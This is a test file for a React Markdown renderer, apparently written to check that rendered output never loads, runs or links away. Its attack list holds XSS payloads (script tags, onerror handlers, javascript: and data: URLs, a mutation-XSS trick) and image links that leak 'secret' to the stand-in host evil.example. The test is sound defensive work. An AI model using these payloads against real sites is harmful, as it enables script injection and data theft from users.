import { renderToStaticMarkup } from 'react-dom/server'
import naughty from 'big-list-of-naughty-strings'
import { describe, expect, test } from 'vitest'
import { definitionsOf, Markdown, MarkdownPart } from './markdown'
import { splitParts } from './split'

const render = (text: string, streaming = false): string => {
  if (!streaming) return renderToStaticMarkup(<Markdown text={text} />)
  const parts = splitParts(text)
  return renderToStaticMarkup(<>{parts.map((part) => <MarkdownPart key={part.start} part={part} definitions={definitionsOf(parts)} open={part === parts.at(-1)} />)}</>)
}

/** What must never be in the page, whatever was written: elements that load, run or navigate, and handlers. */
const forbidden = /<(?:img|script|iframe|object|embed|link|meta|style|svg|math|video|audio|source|form|base|template|frame)\b|<[^>]*\s(?:on\w+|style|src|srcset|srcdoc|action|formaction|data|xlink:href|poster|background)=/i
/** The page's own icons are pictures without an address. */
const withoutIcons = (html: string): string => html.replace(/<svg [^>]*class="lucide[^>]*>.*?<\/svg>/g, '').replaceAll('style="max-height:480px"', '')
const links = (html: string): readonly string[] => [...html.matchAll(/<[^>]*\shref="([^"]*)"/g)].map((match) => match[1] ?? '')

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  '<style>@import url(https://evil.example/x.css)</style><div style="background:url(https://evil.example)">x</div>',
  '<form action="https://evil.example"><input name=q><button formaction="javascript:alert(1)">go</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '![pixel](https://evil.example/p.png?q=secret)',
  '![ref][r]\n\n[r]: https://evil.example/p.png "t"',
  '[![nested](https://evil.example/p.png)](https://evil.example/go)',
  '[x](javascript:alert(1)) [y](data:text/html;base64,PHNjcmlwdD4=) [z](vbscript:x) [w](&#106;avascript:alert(1))',
  '<javascript:alert(1)> <https://evil.example/\u202Eauto>',
  '[a]: javascript:alert(1)\n\n[a] [b][a]',
  '```html\n<script>alert(1)</script>\n```',
  '```mermaid\ngraph TD; A-->B; click A "javascript:alert(1)"\n```',
  '$$\\href{javascript:alert(1)}{x}$$',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> ![p](//evil.example/p) |',
  '- [x] <object data="https://evil.example"></object>\n- [ ] <embed src=x>',
  '[^1]\n\n[^1]: <img src=x> ![p](https://evil.example/f.png)',
  '<div>\n\n**bold** <img/src="x"/onerror=alert(1)>\n\n</div>',
  '<!-- <img src=x> --> <![CDATA[<img src=x>]]> <?php <img src=x> ?>',
  '"><img src=x onerror=alert(1)> \u0000<scr\u0000ipt>',
]

describe.each([['whole', false], ['streamed', true]] as const)('%s', (_name, streaming) => {
  test.each(attacks)('at every prefix, nothing loads, runs or leads away: %s', (attack) => {
    for (let end = 1; end <= attack.length; end += 1) {
      const html = render(attack.slice(0, end), streaming)
      expect(withoutIcons(html)).not.toMatch(forbidden)
      for (const href of links(html)) expect(href).toMatch(/^https:\/\//)
    }
  })
})

test('raw HTML is shown as the text it is', () => {
  expect(render('a <b>bold</b> claim')).toContain('a &lt;b&gt;bold&lt;/b&gt; claim')
})

test('a picture is shown as its words and address', () => {
  expect(render('![a cat](https://example.com/cat.png)')).toContain('[image: a cat (https://example.com/cat.png)]')
})

test('an https link opens in a new page that is told nothing; another one is text', () => {
  expect(render('[ok](https://example.com/x)')).toContain(
    '<a href="https://example.com/x" title="https://example.com/x" target="_blank" rel="noopener noreferrer">ok</a>')
  expect(render('[no](http://example.com/x)')).not.toContain('href')
})

test('tables, lists, tasks and code keep their shape', () => {
  const html = render('| a | b |\n|---|:-:|\n| 1 | 2 |\n\n3. three\n\n- [x] done\n\n```ts\nlet a\n```\n\n`inline`')
  for (const part of ['<table>', '<th>a</th>', '<ol start="3">', 'checked=""', '<code>let a', 'TypeScript', '<code>inline</code>']) expect(html).toContain(part)
})

test('a note is shown as its number, and defined in whatever part of the text', () => {
  const html = render('Said here.[^why]\n\n[^why]: The **reason**.')
  expect(html).toContain('aria-label="Note 1"')
  expect(html).toContain('<strong>reason</strong>')
  expect(render('Nothing defines [^this].')).toContain('[^this]')
})

test('what one part of a long text defines, the others can refer to', () => {
  const text = `${'Many words before it. '.repeat(300)}\n\nSee [the page][p].\n\n${'And many after it. '.repeat(300)}\n\n[p]: https://example.com/p\n`
  expect(render(text)).toContain('href="https://example.com/p"')
})

const hard: Readonly<Record<string, string>> = {
  'quotes in quotes': '>'.repeat(9_000), 'lists in lists': Array.from({ length: 400 }, (_, depth) => `${' '.repeat(depth * 2)}- x`).join('\n'),
  'brackets': '['.repeat(9_000), 'emphasis': '*a **b '.repeat(1_500), 'ticks': `${'`'.repeat(4_000)}a${'`'.repeat(3_999)}`, 'links': '[a](b'.repeat(2_000),
  'a table of a line': `${'|'.repeat(4_000)}\n${'|-'.repeat(4_000)}`, 'markers': '1. '.repeat(2_000), 'mixed markers': '> - '.repeat(2_000), 'comments': '<!--'.repeat(2_000),
  'ten thousand links': '[a](https://example.com/) '.repeat(10_000), 'right to left': 'שלום \u202Eאבג '.repeat(500), 'one line of five megabytes': 'word '.repeat(1_000_000).slice(0, 5_000_000),
}
test.each(Object.keys(hard))('%s are shown, and soon', (name) => {
  const text = hard[name] ?? ''
  // The part that takes longest is what holds up the window.
  for (const part of splitParts(text).slice(0, 30)) {
    const before = performance.now()
    renderToStaticMarkup(<MarkdownPart part={part} definitions={definitionsOf([part])} open />)
    expect(performance.now() - before).toBeLessThan(1_000)
  }
})

test('every naughty string is shown and nothing of it acts', () => {
  for (const text of naughty) {
    for (const html of [render(text), render(text, true), render(`- ${text}\n\n| a |\n|---|\n| ${text} |\n\n\`\`\`\n${text}\n\`\`\``)]) {
      expect(withoutIcons(html)).not.toMatch(forbidden)
      for (const href of links(html)) expect(href).toMatch(/^https:\/\//)
    }
  }
})
